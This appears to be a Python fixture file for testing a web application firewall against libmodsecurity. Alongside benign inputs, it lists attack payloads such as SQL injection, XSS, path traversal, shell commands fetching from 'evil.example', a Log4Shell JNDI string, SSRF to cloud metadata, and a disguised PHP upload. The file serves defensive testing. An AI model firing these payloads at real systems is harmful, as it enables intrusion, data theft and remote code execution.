"""Requests and responses written for the comparison with libmodsecurity: ordinary ones, attacks of each family, and odd forms.

Values are percent-encoded where they stand in a target; bodies are given as they travel.
"""

import json
from urllib.parse import quote

from yett.model.exchange import Request, Response

_HEAD = ((b"Host", b"shop.example"), (b"User-Agent", b"Mozilla/5.0"), (b"Accept", b"*/*"))

ORDINARY = (
    "anna", "blue widgets", "Don't worry, be happy", "O'Reilly & Sons", "Select a colour from the list", "union of two sets",
    "5 > 3 and 2 < 4", "price: $10.00 (incl. VAT)", "Zürich, São Paulo, 東京", "https://shop.example/a?b=c", "drop me a line",
    "a@example.org", "C:\\Users\\anna", "rock & roll", "it's 10% off!", "2024-05-01T10:00:00Z", "<3", "fish; chips", "a=b&c=d",
    "where are you from?", "#hashtag", "f(x) = x^2", "null", "-- see below", "rm", "cat", "the etc directory", "Tom & Jerry | 1940",
)  # fmt: skip

ATTACKS = (
    "1' or '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --", "1' AND sleep(5)-- -",
    "admin'--", "1 or benchmark(10000000,md5(1))", "' UNION ALL SELECT NULL,NULL,version()#", "1; exec xp_cmdshell('dir')",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)",
    "\"><iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"vbscript:msgbox(1)\">x</a>",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "file:///etc/passwd",
    "; cat /etc/passwd", "| ls -la /", "`id`", "$(whoami)", "&& ping -c 10 127.0.0.1", "; /bin/bash -i", "|| wget http://evil.example/x",
    "() { :; }; echo vulnerable", "powershell -enc SQBFAFgA", "cmd.exe /c dir",
    "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "phpinfo()", "eval(base64_decode('eA=='))",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "ftp://evil.example/shell.txt?",
    "${jndi:ldap://evil.example/a}", "java.lang.Runtime", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "require('child_process').exec('id')",
    "{\"$ne\": null}", "__proto__[x]=y", "constructor.constructor('return 1')()", "a\r\nSet-Cookie: x=y", "a\r\nContent-Length: 0\r\n\r\nb",
    "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"ls\"-->", "{{7*7}}", "<%= 7*7 %>",
)  # fmt: skip


def _request(
    method: str, target: str, body: bytes = b"", media: str = "", *more: tuple[bytes, bytes], version: str = "1.1"
) -> Request:
    fields = [*_HEAD, *more]
    if media:
        fields.append((b"Content-Type", media.encode()))
    if body or method == "POST":
        fields.append((b"Content-Length", b"%d" % len(body)))
    return Request(method=method, target=target.encode("latin-1"), fields=tuple(fields), body=body, version=version)


def carried(text: str) -> dict[str, Request]:
    """One text in the places where requests hold values."""
    quoted = quote(text, safe="")
    upload = (
        '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n' + text + "\r\n"
        '--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n'
    ).encode()
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    found = {
        "query": _request("GET", f"/search?q={quoted}&page=2"),
        "query name": _request("GET", f"/search?{quoted}=1"),
        "query twice encoded": _request("GET", f"/search?q={quote(quoted, safe='')}"),
        "path": _request("GET", f"/items/{quoted}/reviews"),
        "form": _request("POST", "/login", f"user=anna&pass={quoted}".encode(), "application/x-www-form-urlencoded"),
        "json": _request(
            "POST", "/api/notes", json.dumps({"id": 7, "note": {"tags": ["a", text]}}).encode(), "application/json"
        ),
        "json escaped": _request(
            "POST", "/api/notes", json.dumps({"note": text}, ensure_ascii=True).encode(), "application/json"
        ),
        "xml": _request("POST", "/api/orders", f'<order id="1"><note>{escaped}</note></order>'.encode(), "text/xml"),
        "multipart": _request("POST", "/upload", upload, "multipart/form-data; boundary=b"),
    }
    if not set(text) & set("\r\n"):
        found["cookie"] = _request("GET", "/", b"", "", (b"Cookie", f"theme=dark; prefs={quoted}".encode()))
        found["user agent"] = _request("GET", "/", b"", "", (b"Referer", b"https://shop.example/?q=" + quoted.encode()))
    return found


ODD = {
    "no user agent": Request(method="GET", target=b"/", fields=((b"Host", b"shop.example"), (b"Accept", b"*/*"))),
    "host is an address": Request(method="GET", target=b"/", fields=((b"Host", b"192.0.2.1"), *_HEAD[1:])),
    "empty user agent": Request(method="GET", target=b"/", fields=((b"Host", b"shop.example"), (b"User-Agent", b""), (b"Accept", b"*/*"))),
    "scanner": Request(method="GET", target=b"/", fields=((b"Host", b"shop.example"), (b"User-Agent", b"sqlmap/1.7"), (b"Accept", b"*/*"))),
    "trace": _request("TRACE", "/"),
    "unknown method": _request("FROB", "/"),
    "options": _request("OPTIONS", "/api"),
    "head with a body": _request("HEAD", "/", b"abc", "text/plain"),
    "post without type": _request("POST", "/api", b"a=b"),
    "unknown type": _request("POST", "/api", b"a=b", "application/x-frob"),
    "other charset": _request("POST", "/api", b"{}", "application/json; charset=koi8-r"),
    "broken json": _request("POST", "/api", b'{"a": ', "application/json"),
    "empty json": _request("POST", "/api", b"{}", "application/json"),
    "json list": _request("POST", "/api", b'[1, "two", [3]]', "application/json"),
    "json scalar": _request("POST", "/api", b'"../../etc/passwd"', "application/json"),
    "broken xml": _request("POST", "/api", b"<a><b></a>", "text/xml"),
    "many arguments": _request("GET", "/search?" + "&".join(f"a{i}={i}" for i in range(200))),
    "same argument often": _request("GET", "/search?" + "&".join(f"id={i}" for i in range(20))),
    "long argument": _request("GET", "/search?q=" + "x" * 500),
    "bad escape": _request("GET", "/search?q=%zz"),
    "null octet": _request("GET", "/search?q=a%00b"),
    "not UTF-8": _request("GET", "/search?q=%ff%fe"),
    "overlong": _request("GET", "/search?q=%c0%ae%c0%ae/"),
    "unicode escape": _request("GET", "/search?q=%u003cscript%u003e"),
    "half width": _request("GET", "/search?q=" + quote("＜script＞alert(1)＜/script＞")),
    "range": _request("GET", "/", b"", "", (b"Range", b"bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7")),
    "reversed range": _request("GET", "/", b"", "", (b"Range", b"bytes=9-1")),
    "two hosts forwarded": _request("GET", "/", b"", "", (b"X-Forwarded-Host", b"evil.example")),
    "proxy header": _request("GET", "/", b"", "", (b"Proxy", b"http://evil.example")),
    "session in query": _request("GET", "/?PHPSESSID=abc123", b"", "", (b"Referer", b"https://evil.example/")),
    "backup file": _request("GET", "/index.php.bak"),
    "hidden file": _request("GET", "/.git/config"),
    "environment file": _request("GET", "/.env"),
    "dot segments": _request("GET", "/static/../../etc/passwd"),
    "trailing dots": _request("GET", "/a/..;/admin"),
    "old protocol": _request("GET", "/", version="1.0"),
    "comment in sql": _request("GET", "/?id=1/**/UNION/**/SELECT/**/1"),
    "sql in capitals": _request("GET", "/?id=1%27%20Or%20%271%27%20LiKe%20%271"),
    "upload of a script": _request(
        "POST", "/upload",
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\nContent-Type: image/png\r\n\r\n<?php echo 1;\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
    ),
    "connection twice": _request("GET", "/", b"", "", (b"Connection", b"keep-alive, close")),
    "accept empty": Request(method="GET", target=b"/", fields=(*_HEAD[:2], (b"Accept", b""))),
}  # fmt: skip

RESPONSES = {
    "plain": Response(status=200, fields=((b"Content-Type", b"application/json"),), body=b'{"ok": true}'),
    "sql error": Response(
        status=500, fields=((b"Content-Type", b"text/html"),), body=b"You have an error in your SQL syntax; check the manual"
    ),
    "php source": Response(status=200, fields=((b"Content-Type", b"text/html"),), body=b"<?php\n$a = mysql_connect('x');\n?>"),
    "php warning": Response(
        status=200, fields=((b"Content-Type", b"text/html"),), body=b"<b>Warning</b>:  mysql_query() on line <b>3</b>"
    ),
    "java trace": Response(
        status=500, fields=((b"Content-Type", b"text/plain"),), body=b"java.lang.NullPointerException at x.y.Z"
    ),
    "directory": Response(
        status=200, fields=((b"Content-Type", b"text/html"),), body=b"<title>Index of /</title><h1>Index of /</h1>"
    ),
    "server error": Response(status=500, fields=((b"Content-Type", b"text/plain"),), body=b"sorry"),
    "picture": Response(status=200, fields=((b"Content-Type", b"image/png"),), body=b"<?php $a; ORA-00933: x"),
    "oracle error": Response(
        status=200, fields=((b"Content-Type", b"text/html"),), body=b"ORA-00933: SQL command not properly ended"
    ),
    "iis error": Response(
        status=500, fields=((b"Content-Type", b"text/html"),), body=b"Microsoft OLE DB Provider for SQL Server error '80040e14'"
    ),
}
